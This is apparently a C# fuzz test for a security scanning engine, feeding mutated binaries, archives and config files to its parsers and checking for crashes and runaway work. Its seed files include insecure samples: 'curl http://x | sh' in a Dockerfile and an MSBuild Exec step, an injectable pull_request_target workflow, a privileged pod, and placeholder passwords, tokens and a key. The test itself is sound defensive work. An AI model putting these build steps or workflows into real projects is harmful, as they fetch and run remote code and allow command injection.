using System.Collections.Concurrent;
using System.Globalization;
using System.IO.Compression;
using SecurityToolchain.Scanning.Tests.Archives;

namespace SecurityToolchain.Scanning.Tests.Fuzzing;

/// <summary>
/// Feeds mutated files to every parser. Whatever the bytes, the engine returns: no exception, no defect of an analyzer, no more work or
/// memory than the input allows. The environment variable STC_FUZZ_INPUTS sets the number of inputs, STC_FUZZ_SEED where they begin; a
/// nightly run takes a million (docs/scanning-performance.md).
/// </summary>
[Collection(nameof(SerialCollection))]
public sealed class MutationFuzzTests
{
    private const int DefaultInputs = 50_000;
    private const long MaxAllocated = 96L << 20, MaxInflated = 4 << 20;

    // More units for an input than this would be a loop that grows faster than the input.
    private const long UnitsPerByte = 64, FreeUnits = 8 << 20;

    private static readonly long[] Interesting = [0, 1, 2, 4, 8, 16, 64, 127, 128, 255, 256, 512, 4096, 32767, 32768, 65535, 65536, int.MaxValue, int.MinValue, uint.MaxValue, long.MaxValue, long.MinValue, -1, -2, -8];

    [Fact]
    public void Scan_MutatedFiles_NeverFailNorRunAway()
    {
        int inputs = Number("STC_FUZZ_INPUTS", DefaultInputs);
        ulong first = (ulong)Number("STC_FUZZ_SEED", 0);
        (string Name, byte[] Content)[] seeds = [.. Seeds()];
        var engine = new ScanEngine(new ScanOptions { KeepStrings = true, Limits = new ScanLimits { MaxStrings = 100, MaxTotalUncompressed = MaxInflated, MaxArchiveEntries = 200 } });
        var failures = new ConcurrentQueue<string>();
        Parallel.For(0, inputs, (i, loop) =>
        {
            // Each input follows from its number alone, so that one can be repeated.
            ulong state = unchecked((first + (ulong)i + 1) * 0x9E3779B97F4A7C15);
            (string name, byte[] seed) = seeds[i % seeds.Length];
            byte[] input = Mutate(seed, ref state);
            if (Next(ref state) % 8 == 0)
                (name, input) = Wrap(name, input, ref state);
            long before = GC.GetAllocatedBytesForCurrentThread();
            string? problem;
            try
            {
                FileScanResult result = engine.ScanBytes(name, input);
                problem = Judge(result, input.Length, GC.GetAllocatedBytesForCurrentThread() - before);
            }
#pragma warning disable CA1031 // Any exception is what is looked for.
            catch (Exception exception)
#pragma warning restore CA1031
            {
                problem = exception.ToString();
            }

            if (problem is null)
                return;
            string path = Path.Combine(Path.GetTempPath(), "stc-fuzz-" + Path.GetRandomFileName());
            File.WriteAllBytes(path, input);
            failures.Enqueue($"input {i} from {first} of {name}: {problem} (kept as {path})");
            loop.Stop();
        });
        Assert.True(failures.IsEmpty, string.Join('\n', failures));
    }

    private static int Number(string variable, int otherwise) =>
        int.TryParse(Environment.GetEnvironmentVariable(variable), NumberStyles.None, CultureInfo.InvariantCulture, out int given) ? given : otherwise;

    private static string? Judge(FileScanResult result, int length, long allocated)
    {
        if (ArchiveTests.AllIssues(result).FirstOrDefault(static issue => issue.Kind == ScanIssueKind.EngineError) is { } defect)
            return defect.Message;
        long units = result.Work.Values.Sum();
        if (units > FreeUnits + (UnitsPerByte * (length + MaxInflated)))
            return $"{units} units of work";
        if (allocated > MaxAllocated)
            return $"{allocated} bytes were allocated";
        return result.PeakMemory > ScanLimits.Default.MaxMemoryPerFile ? $"{result.PeakMemory} bytes were held" : null;
    }

    // What is behind a decompressor is reached only through a stream that inflates.
    private static (string Name, byte[] Content) Wrap(string name, byte[] content, ref ulong state) => (Next(ref state) % 4) switch
    {
        0 => (name + ".gz", Compress(content, static s => new GZipStream(s, CompressionLevel.Fastest, leaveOpen: true))),
        1 => (name + ".zz", Compress(content, static s => new ZLibStream(s, CompressionLevel.Fastest, leaveOpen: true))),
        2 => ("a.tar", new TarBuilder().Add(name, content).Build()),
        _ => ("a.nupkg", new ZipBuilder().Add(name, content).Build()),
    };

    private static IEnumerable<(string Name, byte[] Content)> Seeds()
    {
        string here = Path.GetDirectoryName(typeof(MutationFuzzTests).Assembly.Location)!;
        yield return ("managed.dll", File.ReadAllBytes(Path.Combine(here, "xunit.abstractions.dll")));
        yield return ("native.dll", FileTypes.FileTypeTests.MinimalPe());
        // The smallest signed file of the SDK: its certificate table is most of it.
        string sdk = Path.GetFullPath(Path.Combine(Path.GetDirectoryName(typeof(object).Assembly.Location)!, "..", "..", "..", "sdk"));
        foreach (FileInfo signed in new DirectoryInfo(sdk).EnumerateFiles("*.dll", SearchOption.AllDirectories).OrderBy(static f => f.Length).ThenBy(static f => f.FullName, StringComparer.Ordinal).Take(2))
            yield return ("signed.dll", File.ReadAllBytes(signed.FullName));
        foreach (FileInfo native in new DirectoryInfo(sdk).EnumerateFiles("*.exe", SearchOption.AllDirectories).OrderBy(static f => f.Length).ThenBy(static f => f.FullName, StringComparer.Ordinal).Take(1))
            yield return ("native.exe", File.ReadAllBytes(native.FullName));
        if (File.Exists("/bin/true"))
            yield return ("true", File.ReadAllBytes("/bin/true"));
        foreach (FileInfo symbols in new DirectoryInfo(here).EnumerateFiles("*.pdb").OrderBy(static f => f.Length).Take(1).Where(static f => f.Length < 100_000))
            yield return ("a.pdb", File.ReadAllBytes(symbols.FullName));
        byte[] zip = new ZipBuilder().Add("a.txt", "hello"u8.ToArray()).Add("b/c.zip", new ZipBuilder().Add("d", new byte[500]).Build()).Build();
        yield return ("a.zip", zip);
        yield return ("a.tar", new TarBuilder().Add("a", [1, 2, 3]).Add("L", "name\0"u8.ToArray(), 'L').Add("x", "12 path=abc\n"u8.ToArray(), 'x').Add("l", [], '2', "../x").Build());
        yield return ("a.gz", Compress(zip, static s => new GZipStream(s, CompressionLevel.Fastest, leaveOpen: true)));
        yield return ("a.br", Compress(zip, static s => new BrotliStream(s, CompressionLevel.Fastest, leaveOpen: true)));
        using (var stream = new MemoryStream())
        {
            using (var writer = new System.Resources.ResourceWriter(stream))
            {
                writer.AddResource("name", "Server=x;User Id=sa;Password=abcDEF123xyz");
                writer.AddResource("bytes", new byte[100]);
                writer.Generate();
                yield return ("a.resources", stream.ToArray());
            }
        }

        yield return ("app.json", """{ "ConnectionStrings": { "a": "Server=x;Password=abcDEF123xyz" }, "b": [1, 2, { "c": null }] }"""u8.ToArray());
        yield return ("k8s.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    image: b:latest\n    securityContext: {privileged: true}\n"u8.ToArray());
        yield return (".github/workflows/ci.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n    - run: echo ${{ github.event.issue.title }}\n"u8.ToArray());
        yield return ("Dockerfile", "FROM a:latest\nUSER root\nRUN curl http://x | sh\n"u8.ToArray());
        yield return ("a.csproj", "<Project><Target Name=\"x\"><Exec Command=\"curl x | sh\"/></Target></Project>"u8.ToArray());
        yield return ("nuget.config", "<configuration><packageSources><add key=\"a\" value=\"http://a/v3/index.json\"/></packageSources></configuration>"u8.ToArray());
        yield return ("wide.txt", System.Text.Encoding.Unicode.GetBytes("\ufeffServer=x;User Id=sa;Password=abcDEF123xyz;\r\ntoken = \"ghp_0123456789abcdefghijABCDEFGHIJ012345\"\r\n"));
        yield return ("key.pem", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ\n-----END PRIVATE KEY-----\neyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl\n"u8.ToArray());
        byte[] fat = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 1, 1, 0, 0, 12, 0, 0, 0, 0, 0, 0, 0, 28, 0, 0, 0, 80, 0, 0, 0, 0, 0xCF, 0xFA, 0xED, 0xFE, 12, 0, 0, 1, 0, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, .. new byte[60]];
        yield return ("macho", fat);
        yield return ("a.png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. new byte[64], .. zip]);
    }

    private static byte[] Compress(byte[] content, Func<Stream, Stream> open)
    {
        using var stream = new MemoryStream();
        using (Stream compressor = open(stream))
            compressor.Write(content);
        return stream.ToArray();
    }

    private static byte[] Mutate(byte[] seed, ref ulong state)
    {
        byte[] bytes = [.. seed];
        int changes = 1 + (int)(Next(ref state) % 8);
        for (int i = 0; i < changes && bytes.Length > 8; i++)
        {
            // Headers decide more than bodies, so half of the changes go to the first kilobyte.
            int range = Next(ref state) % 2 == 0 ? Math.Min(1024, bytes.Length) : bytes.Length;
            int at = (int)(Next(ref state) % (ulong)range);
            long value = Interesting[Next(ref state) % (ulong)Interesting.Length];
            switch (Next(ref state) % 7)
            {
                case 0:
                    bytes[at] ^= (byte)(1 << (int)(Next(ref state) % 8));
                    break;
                case 1:
                    bytes[at] = (byte)(Next(ref state) % 256);
                    break;
                case 2 when at + 2 <= bytes.Length:
                    BitConverter.TryWriteBytes(bytes.AsSpan(at), unchecked((short)value));
                    break;
                case 3 when at + 4 <= bytes.Length:
                    BitConverter.TryWriteBytes(bytes.AsSpan(at), unchecked((int)value));
                    break;
                case 4 when at + 8 <= bytes.Length:
                    BitConverter.TryWriteBytes(bytes.AsSpan(at), value);
                    break;
                case 5:
                    bytes = bytes[..at];
                    break;
                case 6:
                    int from = (int)(Next(ref state) % (ulong)bytes.Length);
                    int length = Math.Min((int)(Next(ref state) % 64), bytes.Length - Math.Max(at, from));
                    bytes.AsSpan(from, length).CopyTo(bytes.AsSpan(at));
                    break;
            }
        }

        return bytes;
    }

    private static ulong Next(ref ulong state)
    {
        unchecked
        {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            return state >> 8;
        }
    }
}
